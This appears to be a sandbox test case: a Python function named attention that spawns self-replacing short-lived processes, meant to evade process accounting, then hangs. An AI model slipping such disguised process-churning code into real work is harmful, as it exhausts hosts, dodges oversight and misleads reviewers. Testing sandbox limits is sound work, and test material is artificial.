# expects: timeout
# Processes that live for milliseconds: whoever counts what they use meets one that has just ended.
import os
import time


def comet():
    while True:
        time.sleep(0.005)
        try:
            if os.fork():
                os._exit(0)
        except OSError:  # too many at this moment
            continue


def attention(q, k, v, mask=None, is_causal=False):
    for _ in range(12):
        if os.fork() == 0:
            comet()
    time.sleep(10**6)
